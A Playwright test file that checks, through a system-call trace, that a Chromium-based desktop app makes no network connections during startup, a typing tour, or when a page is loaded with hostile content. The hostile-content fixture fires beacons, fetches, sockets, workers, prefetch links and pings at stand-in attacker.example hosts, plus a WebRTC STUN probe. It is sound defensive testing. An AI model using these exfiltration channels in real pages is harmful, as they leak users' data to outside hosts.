import { expect, test } from '@playwright/test';
import { endStartedApps, makeProfile, type StartedApp, startApp } from '../helpers/started-app.ts';
import { findNetworkCalls, whyNotTraced, writeTracedProgram } from '../helpers/traced-app.ts';

test.afterEach(endStartedApps);

const obstacle = whyNotTraced();
test.setTimeout(120_000);

test('the check itself notices a connection', async () => {
  test.skip(obstacle !== undefined, obstacle);
  const folder = makeProfile();
  const traced = writeTracedProgram(folder);
  const { app, quit } = await startApp({ profile: folder, program: traced.program });
  await app.evaluate(async () => {
    const { connect } = process.getBuiltinModule('node:net');
    await new Promise((resolve) => connect(9, '127.0.0.1').once('error', resolve));
  });
  await quit();
  expect(findNetworkCalls(traced.readTrace())).toHaveLength(1);
});

test('the app opens no network connection from start to end', async () => {
  test.skip(obstacle !== undefined, obstacle);
  const folder = makeProfile();
  const traced = writeTracedProgram(folder);
  const started = await startApp({ profile: folder, program: traced.program });
  await tour(started);
  await started.quit();
  const trace = traced.readTrace();
  expect(trace.length, 'the trace holds the local sockets at least').toBeGreaterThan(10);
  expect(findNetworkCalls(trace)).toEqual([]);
});

test('a page full of hostile content sends nothing and looks no name up', async () => {
  test.skip(obstacle !== undefined, obstacle);
  const folder = makeProfile();
  const traced = writeTracedProgram(folder);
  const started = await startApp({ profile: folder, program: traced.program });
  await started.page.evaluate(hostileContent);
  const seen = await started.page.evaluate(`new Promise((resolve) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }] });
    const candidates = [];
    peer.createDataChannel('x');
    peer.onicecandidate = ({ candidate }) => candidate && candidates.push(candidate.candidate);
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(candidates);
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    setTimeout(() => resolve(candidates), 10_000);
  })`);
  expect(seen).toEqual([]);
  await started.quit();
  expect(findNetworkCalls(traced.readTrace()).filter((line) => !isAddressProbe(line))).toEqual([]);
});

/** WebRTC asks the system which of its addresses it would use: a datagram socket is aimed, and nothing sent. */
function isAddressProbe(line: string): boolean {
  return /\bconnect\(\d+<UDP.*htons\((53|443)\).*("8\.8\.8\.8"|2001:4860:4860::8888)/.test(line);
}

/** What an owner does in her first minutes, as far as it could tempt Chromium to call home. */
async function tour({ page, call }: StartedApp): Promise<void> {
  await call('shell.startEmpty');
  await call('shell.state');
  await page.evaluate(`(() => {
    const field = document.createElement('textarea');
    document.body.append(field);
    field.focus();
  })()`);
  await page.keyboard.type('Plese spel tis corectly, and Grüße aus München');
  await page.reload();
  await call('shell.state');
  // What Chromium does by itself it may do late; the long round waits for longer.
  await page.waitForTimeout(Number(process.env.REGULARS_IDLE_SECONDS ?? 5) * 1000);
}

const hostileContent = `(() => {
  const add = (name, attributes) => {
    const element = document.createElement(name);
    try {
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    } catch {}
    document.head.append(element);
  };
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'stylesheet', 'icon', 'manifest', 'modulepreload'])
    add('link', { rel, as: 'script', href: 'https://' + rel + '.attacker.example/x' });
  add('img', { src: 'https://img.attacker.example/x.png' });
  add('video', { src: 'https://video.attacker.example/x.mp4' });
  add('object', { data: 'https://object.attacker.example/' });
  add('embed', { src: 'https://embed.attacker.example/' });
  const link = document.createElement('a');
  link.href = 'https://link.attacker.example/';
  link.ping = 'https://ping.attacker.example/';
  document.body.append(link);
  link.click();
  navigator.sendBeacon('https://beacon.attacker.example/', 'x');
  fetch('https://fetch.attacker.example/').catch(() => undefined);
  try { new WebSocket('wss://socket.attacker.example/'); } catch {}
  try { new EventSource('https://events.attacker.example/'); } catch {}
  try { new Worker('https://worker.attacker.example/x.js'); } catch {}
})()`;
